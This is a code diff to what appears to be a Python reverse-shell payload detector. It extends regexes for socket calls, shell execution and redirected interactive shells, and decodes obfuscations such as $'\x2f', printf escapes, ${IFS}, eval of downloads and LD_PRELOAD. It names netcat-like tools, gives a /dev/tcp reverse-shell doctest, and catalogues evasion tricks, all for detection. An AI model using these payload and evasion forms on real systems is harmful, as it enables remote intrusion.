@@ -34,12 +34,12 @@ _DEV_NET = re.compile(r"/dev/(tcp|udp)/[^/\s\"'`;|&<>]+/\d{1,5}")
 _SOCKET = re.compile(
     r"socket\.socket|socket\(|fsockopen|TCPSocket|IO::Socket|Socket\.tcp|net\.connect|createConnection|"
     r"new\s+Socket\b|Net\.Sockets\.TCPClient|socket\.connect|stream_socket_client|/inet[46]?/tcp/|"
-    r"require\s*\(?\s*['\"](?:socket|net)['\"]",
+    r"require\s*\(?\s*['\"](?:socket|net)['\"]|\bztcp\b|create_connection",
     re.IGNORECASE,
 )
 _EXECS = re.compile(
     r"dup2|pty\.spawn|subprocess|child_process|spawn\(|exec\(|execv|system\(|popen|proc_open|"
-    r"/bin/(?:ba|da|z|k)?sh\b|cmd\.exe|\bexec\s+\d*[<>]|sh\s+-i|IO\.popen|Process\.Start|os\.execute",
+    r"\b(?:system|exec)\s*\$|`[^`]*\b(?:ba|da|z|k)?sh\b|\b(?:ba|da|z|k)?sh\s*[<>]&\s*\$|/bin/(?:ba|da|z|k)?sh\b|cmd\.exe|\bexec\s+\d*[<>]|sh\s+-i|IO\.popen|Process\.Start|os\.execute",
     re.IGNORECASE,
 )
 _PS_B64_EXEC = re.compile(r"FromBase64String", re.IGNORECASE)
@@ -60,10 +60,66 @@ _WRAPPERS = frozenset(
 _WRAPPER_ARG = {"timeout": 1, "nice": 0, "chrt": 1, "taskset": 1, "runuser": 0, "chroot": 1}
 _DOWNLOADERS = frozenset({"curl", "wget", "fetch", "tftp", "ftp"})
 _B64_TOOLS = frozenset({"base64", "openssl", "base32", "xxd", "uudecode"})
+# Filters that turn a stored text into another (reversed, translated, decompressed): piped into a
+# shell, what runs is not the text a reader sees.
+_TRANSFORMS = frozenset(
+    {"rev", "tr", "zcat", "gunzip", "gzip", "bzcat", "bzip2", "xzcat", "xz", "unxz", "zstdcat", "zstd"}
+)
+# Programs that run their argument words as shell code (eval), or a file as a script (. / source).
+_EVALS = frozenset({"eval"})
+_SOURCES = frozenset({".", "source"})
+_LOADER_VARS = re.compile(r"^(LD_PRELOAD|LD_LIBRARY_PATH|LD_AUDIT)=(.*)$")
+# An interactive shell whose standard input comes from a redirection (bash -i >& X 0>&1): the form
+# of a reverse shell whatever X is spelled like (a variable, a quoted or escaped /dev/tcp).
+_INTERACTIVE_REDIRECT = re.compile(
+    r"\b(?:ba|da|z|k|mk|a)?sh\s+(?:-[A-Za-z]*i[A-Za-z]*\s+)+[^;|]*?(?:>&|&>|<>)[^;|]*?(?:0<&|0>&|<&)\s*\d"
+)
+# String literals of inline interpreter code: what os.system("...") or exec("...") would run.
+_LITERALS = re.compile(r"'((?:[^'\\]|\\.){4,})'|\"((?:[^\"\\]|\\.){4,})\"")
+_PRINTF_ESC = re.compile(r"\\(?:([0-7]{1,3})|x([0-9A-Fa-f]{1,2}))")
+_SUBST_DOWNLOAD = re.compile(r"^\s*(?:\$\(|`)\s*(curl|wget|fetch|tftp)\b")
+_SUBST = re.compile(r"^\s*(?:\$\((.*)\)|`(.*)`)\s*$", re.DOTALL)
+_SSH_TUNNEL = frozenset({"ssh", "autossh", "dbclient", "plink"})
+_IFS = re.compile(r"\$\{IFS[^}]{0,16}\}|\$IFS\b")
+_ANSI_C = re.compile(r"\$'((?:[^'\\]|\\.)*)'", re.DOTALL)
+_ANSI_ESC = re.compile(r"\\(x[0-9A-Fa-f]{1,2}|u[0-9A-Fa-f]{1,4}|U[0-9A-Fa-f]{1,8}|[0-7]{1,3}|c.|.)", re.DOTALL)
+_ANSI_SIMPLE = {"n": "\n", "t": "\t", "r": "\r", "a": "\a", "b": "\b", "e": "\x1b", "E": "\x1b", "f": "\f", "v": "\v"}
 UNUSUAL = re.compile(
     r"\b(?:nc|ncat|netcat|socat|telnet|curl|wget|base64|python[0-9.]*|perl|ruby|php[0-9.]*|lua|node|nodejs|"
     r"powershell|pwsh|mkfifo|mknod|nohup|setsid|disown|chmod\s+[+0-7]*[x7])\b|(?:^|\s)/(?:tmp|var/tmp|dev/shm)/"
 )
+
+
+def _ansi_c_char(m: re.Match[str]) -> str:
+    esc = m.group(1)
+    head = esc[0]
+    try:
+        if head in "xuU" and len(esc) > 1:
+            return chr(int(esc[1:], 16))
+        if head.isdigit():
+            return chr(int(esc, 8) & 0xFF)
+    except (ValueError, OverflowError):
+        return esc
+    if head == "c" and len(esc) == 2:
+        return chr(ord(esc[1]) & 0x1F)
+    return _ANSI_SIMPLE.get(head, esc)
+
+
+def ansi_c(text: str) -> str:
+    r"""``text`` with bash's ``$'...'`` strings decoded and re-quoted (``\x2f`` is ``/``), as the
+    shell would pass them on.
+
+    >>> ansi_c(r"bash -i >& $'\x2f'dev/tcp/h/1 0>&1")
+    "bash -i >& '/'dev/tcp/h/1 0>&1"
+    """
+    if "$'" not in text:
+        return text
+
+    def requote(m: re.Match[str]) -> str:
+        decoded = _ANSI_ESC.sub(_ansi_c_char, m.group(1))
+        return "'" + decoded.replace("'", "'\\''") + "'"
+
+    return _ANSI_C.sub(requote, text)
 
 
 def _words(text: str) -> list[str]:
@@ -190,6 +246,18 @@ def _judge_pipeline(pipe: list[list[str]], depth: int, out: list[tuple[Tier, str
         prev = argvs[n - 1] if n else []
         if prog.startswith(_UGLY_DIRS):
             out.append((Tier.HIGH, f"runs {prog} (a program in a world-writable temporary directory)"))
+        elif k in ("shell", "interpreter") or _base(prog) in _SOURCES:
+            script = _script_arg(argv)
+            if script.startswith(_UGLY_DIRS):
+                out.append((Tier.HIGH, f"runs the script {script} (in a world-writable temporary directory)"))
+        if _base(prog) in _EVALS and depth < MAX_DEPTH:
+            out.extend(judge(" ".join(argv[1:]), depth + 1))
+        if depth < MAX_DEPTH and any(_base(w) == "env" for w in pipe[n]):
+            split = _env_split(pipe[n][[_base(w) for w in pipe[n]].index("env") :])
+            if split:
+                out.extend(judge(split, depth + 1))
+        for word in pipe_env(pipe[n]):
+            out.append(word)
         if k == "netcat":
             flag = exec_option(proc)
             name = tool(proc) or _base(prog)
@@ -203,8 +271,13 @@ def _judge_pipeline(pipe: list[list[str]], depth: int, out: list[tuple[Tier, str
                 out.append((Tier.MEDIUM, f"runs netcat-like {name}"))
         elif k == "shell":
             code = _shell_code(argv)
+            if code is not None and (m := _SUBST_DOWNLOAD.match(code)):
+                out.append((Tier.MEDIUM, f"a {_base(prog)} runs what {m.group(1)} downloads (command substitution)"))
             if code is not None and depth < MAX_DEPTH:
                 out.extend(judge(code, depth + 1))
+                printed = _printed(code)
+                if printed:
+                    out.extend(judge(printed, depth + 1))
         elif k == "interpreter":
             code = _inline_code(proc)
             if code is not None:
@@ -214,24 +287,96 @@ def _judge_pipeline(pipe: list[list[str]], depth: int, out: list[tuple[Tier, str
                     out.append((Tier.MEDIUM, f"{_base(prog)} one-liner opens a socket"))
                 if depth < MAX_DEPTH:
                     out.extend(judge(code, depth + 1))
+                    for lit in _LITERALS.finditer(code[:MAX_TEXT]):
+                        out.extend(judge(lit.group(1) or lit.group(2), depth + 1))
         base = _base(prog)
+        if base in _SSH_TUNNEL and any(a.startswith("-") and not a.startswith("--") and "R" in a for a in argv[1:]):
+            out.append((Tier.MEDIUM, f"{base} opens a reverse tunnel (-R): a port of another host reaches this one"))
+        if base in _EVALS and depth < MAX_DEPTH and (m := _SUBST_DOWNLOAD.match(" ".join(argv[1:]))):
+            out.append((Tier.MEDIUM, f"eval runs what {m.group(1)} downloads (command substitution)"))
         decodes = base in _B64_TOOLS and any(a in ("-d", "--decode", "-D", "-base64", "-r") for a in argv[1:])
         if decodes and nxt in ("shell", "interpreter"):
             out.append((Tier.HIGH, f"a base64-decoded payload piped into a {nxt}"))
+        elif base in _TRANSFORMS and nxt in ("shell", "interpreter") and (base != "gzip" or "-d" in argv):
+            out.append((Tier.HIGH, f"a text transformed by {base} piped into a {nxt} (what runs is hidden)"))
         if base in _DOWNLOADERS and nxt in ("shell", "interpreter"):
             out.append((Tier.MEDIUM, f"downloads with {base} and pipes it into a {nxt}"))
         if mkfifo and k in ("netcat", "shell") and len(argvs) > 1:
             out.append((Tier.HIGH, "a named pipe (mkfifo) joins a shell and a netcat-like"))
 
 
+def _printed(code: str) -> str:
+    """What ``$(printf X)`` / ``$(echo X)`` (or backquotes) prints, when that is the whole of a
+    shell's code ("" otherwise): the shell then runs X."""
+    m = _SUBST.match(code)
+    if not m:
+        return ""
+    cmds = [command_argv(c) for p in pipelines(m.group(1) or m.group(2) or "") for c in p]
+    if len(cmds) == 1 and cmds[0] and _base(cmds[0][0]) in ("printf", "echo"):
+        args = cmds[0][1:]
+        while args and _base(cmds[0][0]) == "echo" and re.fullmatch(r"-[neE]+", args[0]):
+            args = args[1:]  # echo's own options, before the text
+        return " ".join(args)
+    return ""
+
+
+def _printf_char(m: re.Match[str]) -> str:
+    return chr(int(m.group(1), 8) & 0xFF) if m.group(1) else chr(int(m.group(2), 16))
+
+
+def _script_arg(argv: list[str]) -> str:
+    """The script file a shell or interpreter runs (its first operand), "" when it runs inline code."""
+    for a in argv[1:]:
+        if a.startswith("-"):
+            if a in ("-c", "-e", "-r", "-E", "--command", "-m") or (len(a) > 1 and a[1] != "-" and "c" in a[1:]):
+                return ""
+            continue
+        return a
+    return ""
+
+
+def _env_split(argv: list[str]) -> str:
+    """The command string of ``env -S STRING`` / ``--split-string=STRING`` ("" when none)."""
+    for i, a in enumerate(argv[1:], start=1):
+        if a in ("-S", "--split-string") and i + 1 < len(argv):
+            return argv[i + 1]
+        if a.startswith("--split-string="):
+            return a.partition("=")[2]
+        if a.startswith("-S") and len(a) > 2:
+            return a[2:]
+    return ""
+
+
+def pipe_env(argv: list[str]) -> list[tuple[Tier, str]]:
+    """A loader variable set on a command (``LD_PRELOAD=/dev/shm/x.so prog``): high from a
+    temporary directory, medium elsewhere (every program run then loads the library)."""
+    out = []
+    for w in argv:
+        if not _ASSIGN.match(w):
+            break
+        m = _LOADER_VARS.match(w)
+        if m and m.group(2):
+            lib = m.group(2)
+            tmp = any(p.startswith(_UGLY_DIRS) for p in re.split(r"[:\s]", lib))
+            tier = Tier.HIGH if tmp else Tier.MEDIUM
+            where = " (a world-writable temporary directory)" if tmp else ""
+            out.append((tier, f"sets {m.group(1)}={lib[:120]}{where}: the program loads that library"))
+    return out
+
+
 def judge(text: str, depth: int = 0) -> list[tuple[Tier, str]]:
     """Why ``text`` (a command line, a script line) looks like a reverse-shell payload, strongest
-    first; [] when nothing does. Decoded base64 is judged too (its reasons say so)."""
-    text = text[:MAX_TEXT]
+    first; [] when nothing does. Decoded base64 is judged too (its reasons say so). Quoting is
+    undone first as the shell would (``/d''ev/tcp``, ``$'\\x2f'dev/tcp``)."""
+    text = _IFS.sub(" ", ansi_c(text[:MAX_TEXT]))  # ${IFS} splits words as a space does
     out: list[tuple[Tier, str]] = []
     m = _DEV_NET.search(text)
+    if m is None:
+        m = next((w for w in map(_DEV_NET.search, _words(text)) if w), None)
     if m:
         out.append((Tier.HIGH, f"opens {m.group(0)} (bash network redirection)"))
+    elif _INTERACTIVE_REDIRECT.search(text):
+        out.append((Tier.HIGH, "an interactive shell whose input and output are redirected (a reverse-shell form)"))
     if _TCPCLIENT.search(text):
         out.append((Tier.HIGH, "PowerShell opens a TCP client (Net.Sockets.TCPClient)"))
     if _PS_B64_EXEC.search(text) and _PS_IEX.search(text):
@@ -245,6 +390,9 @@ def judge(text: str, depth: int = 0) -> list[tuple[Tier, str]]:
         if n >= MAX_SEGMENTS:
             break
         _judge_pipeline(pipe, depth, out)
+    if depth < MAX_DEPTH and "printf" in text and _PRINTF_ESC.search(text):
+        # printf '\156\143 -e ...' builds the command it prints: judge what it prints
+        out.extend(judge(_PRINTF_ESC.sub(_printf_char, text), depth + 1))
     if depth < MAX_DEPTH:
         for decoded in _decodes(text):
             for tier, why in judge(decoded, depth + 1):
